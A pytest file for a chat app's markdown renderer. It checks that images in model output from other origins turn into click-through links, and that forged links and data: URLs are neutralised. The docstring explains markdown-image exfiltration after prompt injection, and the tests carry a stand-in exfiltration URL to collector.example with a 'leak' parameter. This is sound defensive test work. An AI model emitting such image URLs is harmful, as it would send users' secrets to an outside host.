"""Images in model output do not load by themselves from other sites (chat.render): an image
URL can carry what a prompt injection stole (``![x](http://host/exfil?leak=…)``)."""

from __future__ import annotations

import re

import pytest

from chat.render import markdown_html, sanitize

EXFIL = "http://collector.example:8080/exfil?leak=secret-1"


def images(html: str) -> list[str]:
    return re.findall(r'<img src="([^"]*)"', html)


@pytest.mark.parametrize(
    "src",
    [
        EXFIL,
        "https://collector.example/p.png",
        "//collector.example/p.png",  # protocol-relative: another site too
        "HTTPS://images.example.com:8443/p.png",  # an allowed host, but another origin
    ],
)
def test_other_sites_images_become_links_to_click(settings, src):
    settings.DISPATCH_IMAGE_ORIGINS = ["https://images.example.com"]
    html = markdown_html(f"Look: ![the chart]({src})")
    assert images(html) == []
    link = re.search(
        r'<a class="image-link" href="([^"]+)" target="_blank" [^>]*>([^<]*)</a>', html
    )
    assert link, html
    assert link[2].startswith("Image from ") and link[2].endswith(": the chart")
    assert 'rel="noopener noreferrer nofollow"' in html


def test_the_placeholder_names_the_host_and_escapes_the_url():
    html = markdown_html('![<b>x</b>](http://h.example/a?b=1&c="2")')
    assert "Image from h.example: &lt;b&gt;x&lt;/b&gt;" in html
    assert 'href="http://h.example/a?b=1&amp;c=%222%22"' in html


@pytest.mark.parametrize(
    "src",
    [
        "https://images.example.com/p.png",
        "https://IMAGES.example.com:443/p.png",  # the same origin, written differently
        "/static/chat/logo.png",
        "logo.png",
        "data:image/png;base64,iVBORw0KGgo=",
    ],
)
def test_this_site_data_urls_and_allowed_origins_load(settings, src):
    settings.DISPATCH_IMAGE_ORIGINS = ["https://images.example.com"]
    html = markdown_html(f"![pic]({src})")
    assert len(images(html)) == 1
    assert "image-link" not in html


def test_model_text_cannot_forge_the_placeholder_or_data_links():
    html = markdown_html(
        '<a class="image-link" href="http://h.example/">a</a> '
        "[b](data:image/png;base64,AAAA) ![c](data:text/html;base64,AAAA)"
    )
    assert "<a class" not in html and "&lt;a class" in html  # raw HTML stays text
    assert 'href="data:' not in html
    assert 'src="data:text' not in html


def test_the_sanitizer_keeps_only_the_placeholders_own_attribute_values():
    html = sanitize(
        '<a class="evil" target="_top" href="data:text/html,x">a</a>'
        '<a class="image-link" target="_blank" href="https://h.example/">b</a>'
    )
    assert html == (
        '<a rel="noopener noreferrer nofollow">a</a>'
        '<a class="image-link" target="_blank" href="https://h.example/" '
        'rel="noopener noreferrer nofollow">b</a>'
    )
